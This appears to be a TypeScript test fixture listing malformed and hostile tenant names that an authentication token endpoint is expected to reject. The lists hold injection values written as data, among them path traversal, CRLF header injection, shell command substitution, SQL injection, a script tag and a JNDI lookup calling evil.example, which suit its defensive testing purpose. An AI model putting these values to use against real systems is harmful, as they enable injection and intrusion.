/**
 * Tenants that must not get into the token endpoint's path.
 * @module
 */
import type { Group } from "./hostile-input.ts";

const unknown = [400, "KAL_TENANT_UNKNOWN"] as const;

export const tenants: readonly Group<string>[] = [
  {
    what: "Names that stand for any tenant",
    answered: unknown,
    inputs: ["common", "organizations", "consumers", "COMMON", "Organizations"],
  },
  {
    what: "Characters that would change the URL",
    answered: unknown,
    inputs: [
      "..",
      ".",
      "../x",
      "../../common",
      "/",
      "\\",
      "a/b.example",
      "a\\b.example",
      "a%2fb.example",
      "%2e%2e",
      "example.com/",
      "example.com/../common",
      "example.com?x=y",
      "example.com#x",
      "example.com;x",
      "example.com&x=y",
      "example.com:443",
      "user@example.com",
      "//evil.example",
      "https://evil.example",
      "efa98c7b-2114-46e8-be99-954a4f1a2d9c/..",
      "efa98c7b-2114-46e8-be99-954a4f1a2d9c?x",
    ],
  },
  {
    what: "Almost a name or a GUID",
    answered: unknown,
    inputs: [
      "example",
      ".example.com",
      "example.com.",
      "example..com",
      "-example.com",
      "example-.com",
      "exam_ple.com",
      "*.example.com",
      "exämple.com",
      "ехample.com",
      "example.c",
      "example.123",
      "127.0.0.1",
      "[::1]",
      `${"a".repeat(64)}.com`,
      `${"a.".repeat(127)}com`,
      "efa98c7b-2114-46e8-be99-954a4f1a2d9",
      "efa98c7b-2114-46e8-be99-954a4f1a2d9g",
      "{efa98c7b-2114-46e8-be99-954a4f1a2d9c}",
      "efa98c7b211446e8be99954a4f1a2d9c",
    ],
  },
  {
    what: "Text that another language would interpret",
    answered: unknown,
    inputs: [
      "exam ple.com",
      "example.com\u0000",
      "example\n.com",
      "example.com\r\nHost: evil.example",
      "$(id).example.com",
      "`id`.example.com",
      "' or 1=1 --.com",
      "<script>.com",
      "${jndi:ldap://evil.example}",
      "__proto__",
      "null",
    ],
  },
  { what: "Longer than any name", answered: [400, "KAL_REQUEST_INVALID"], inputs: ["a".repeat(301)] },
];
